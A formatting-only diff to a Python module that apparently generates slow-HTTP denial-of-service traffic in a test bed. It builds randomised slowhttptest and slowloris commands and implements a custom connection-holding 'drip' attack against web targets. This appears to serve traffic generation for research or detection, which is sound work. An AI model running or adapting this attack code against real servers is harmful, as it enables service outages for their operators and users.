@@ -12,8 +12,11 @@ from ..catalog import hostile
 from .crew import Bounds, address_of, log_uniform, run_bounded, together, url, victim
 
 WEB = {"nginx": (80, 443), "weakweb": (8080, None), "api": (8000, None)}
-AGENTS = ("Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
-          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36", "curl/8.5.0")
+AGENTS = (
+    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
+    "curl/8.5.0",
+)
 
 
 def web_target(ctx, where=None, *, tls=None, six_share=0.15) -> tuple[str, int, bool]:
@@ -33,16 +36,47 @@ async def slowhttptest(ctx, flows, seconds, *, where=None, mode=None):
     address, port, tls = web_target(ctx, where)
     mode = mode or rng.choice("HHBBXXR")
     count = max(1, min(round(flows * 0.85), round(log_uniform(rng, 10, 1000))))
-    rate = max(1, round(log_uniform(rng, max(1.0, 2 * count / seconds), max(2.0, 2 * count / seconds, min(count, 200)))))
-    argv = ["slowhttptest", f"-{mode}", "-c", str(count), "-r", str(rate), "-l", str(max(int(seconds) - 1, 2)),
-            "-i", str(round(log_uniform(rng, 1, 60))), "-x", str(round(log_uniform(rng, 2, 200))), "-p", str(rng.randint(2, 30)),
-            "-u", url(address, port, tls, rng.choice(("/", "/p/1.html", "/f/100000", "/f/2000000", "/login", "/upload")))]
+    rate = max(
+        1, round(log_uniform(rng, max(1.0, 2 * count / seconds), max(2.0, 2 * count / seconds, min(count, 200))))
+    )
+    argv = [
+        "slowhttptest",
+        f"-{mode}",
+        "-c",
+        str(count),
+        "-r",
+        str(rate),
+        "-l",
+        str(max(int(seconds) - 1, 2)),
+        "-i",
+        str(round(log_uniform(rng, 1, 60))),
+        "-x",
+        str(round(log_uniform(rng, 2, 200))),
+        "-p",
+        str(rng.randint(2, 30)),
+        "-u",
+        url(address, port, tls, rng.choice(("/", "/p/1.html", "/f/100000", "/f/2000000", "/login", "/upload"))),
+    ]
     if mode == "B":
-        argv += ["-s", str(round(log_uniform(rng, 64, 100_000))), *(["-t", rng.choice(("POST", "PUT"))] if rng.random() < 0.5 else [])]
+        argv += [
+            "-s",
+            str(round(log_uniform(rng, 64, 100_000))),
+            *(["-t", rng.choice(("POST", "PUT"))] if rng.random() < 0.5 else []),
+        ]
     if mode == "X":
         low = rng.randint(1, 400)
-        argv += ["-w", str(low), "-y", str(low + rng.randint(1, 1500)), "-n", str(rng.randint(1, 10)), "-z", str(rng.randint(4, 200)),
-                 "-k", str(rng.randint(1, 5))]
+        argv += [
+            "-w",
+            str(low),
+            "-y",
+            str(low + rng.randint(1, 1500)),
+            "-n",
+            str(rng.randint(1, 10)),
+            "-z",
+            str(rng.randint(4, 200)),
+            "-k",
+            str(rng.randint(1, 5)),
+        ]
     if mode == "R":
         argv += ["-a", str(rng.randint(1, 10)), "-b", str(rng.randint(200, 3000)), "-t", rng.choice(("HEAD", "GET"))]
     await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=seconds)
@@ -53,8 +87,20 @@ async def slowloris(ctx, flows, seconds, *, where=None):
     """The well-known script: headers without an end, sockets replaced when the server drops them."""
     rng = ctx.rng
     address, port, tls = web_target(ctx, where, six_share=0)
-    argv = [ctx.bed.python, "-m", "slowloris", address, "-p", str(port), "-s", str(max(1, min(flows // 2, round(log_uniform(rng, 10, 600))))),
-            "--sleeptime", str(round(log_uniform(rng, 1, 30))), *(["--https"] if tls else []), *(["-ua"] if rng.random() < 0.5 else [])]
+    argv = [
+        ctx.bed.python,
+        "-m",
+        "slowloris",
+        address,
+        "-p",
+        str(port),
+        "-s",
+        str(max(1, min(flows // 2, round(log_uniform(rng, 10, 600))))),
+        "--sleeptime",
+        str(round(log_uniform(rng, 1, 30))),
+        *(["--https"] if tls else []),
+        *(["-ua"] if rng.random() < 0.5 else []),
+    ]
     await run_bounded(ctx, argv, to=[(address, port, "tcp")], flows=flows, seconds=seconds)
 
 
@@ -66,10 +112,12 @@ def _drip(rng, mode, address):
     if mode == "headers":
         start = f"{rng.choice(('GET', 'GET', 'POST', 'HEAD'))} {path} HTTP/1.1\r\n{common}"
         width = rng.randint(1, 60)
-        return start.encode(), lambda: f"X-{rng.randrange(10 ** 6)}: {'a' * rng.randint(1, width)}\r\n".encode()
+        return start.encode(), lambda: f"X-{rng.randrange(10**6)}: {'a' * rng.randint(1, width)}\r\n".encode()
     if mode == "body":
-        start = (f"POST {path} HTTP/1.1\r\n{common}Content-Type: application/x-www-form-urlencoded\r\n"
-                 f"Content-Length: {round(log_uniform(rng, 500, 5e6))}\r\n\r\n")
+        start = (
+            f"POST {path} HTTP/1.1\r\n{common}Content-Type: application/x-www-form-urlencoded\r\n"
+            f"Content-Length: {round(log_uniform(rng, 500, 5e6))}\r\n\r\n"
+        )
         width = round(log_uniform(rng, 1, 60))
         return start.encode(), lambda: b"b" * rng.randint(1, width)
     size = round(log_uniform(rng, 100_000, 20_000_000))
@@ -95,7 +143,17 @@ async def slow_python(ctx, flows, seconds, *, where=None, mode=None, gap_s=None)
             if many_sources:
                 ctx.pick_source()
             try:
-                await _hold(ctx, bounds, address, port, tls, _drip(rng, mode, address), gap_s, jitter, window if mode == "read" else None)
+                await _hold(
+                    ctx,
+                    bounds,
+                    address,
+                    port,
+                    tls,
+                    _drip(rng, mode, address),
+                    gap_s,
+                    jitter,
+                    window if mode == "read" else None,
+                )
             except (OSError, TimeoutError, ssl.SSLError):
                 pass
             await ctx.sleep(min(rng.expovariate(1 / max(gap_s, 1)), max(bounds.left_s, 0)))
@@ -118,8 +176,12 @@ async def _hold(ctx, bounds, address, port, tls, drip, gap_s, jitter, window):
     writer = None
     try:
         await asyncio.wait_for(asyncio.get_running_loop().sock_connect(client, (address, port)), 10)
-        reader, writer = await asyncio.wait_for(asyncio.open_connection(
-            sock=client, ssl=context, server_hostname="" if context else None, limit=max(window or 0, 1024)), 10)
+        reader, writer = await asyncio.wait_for(
+            asyncio.open_connection(
+                sock=client, ssl=context, server_hostname="" if context else None, limit=max(window or 0, 1024)
+            ),
+            10,
+        )
         writer.write(start)
         while bounds.left_s > 0:
             await ctx.sleep(min(gap_s * ctx.rng.uniform(1 - jitter, 1 + jitter), bounds.left_s))
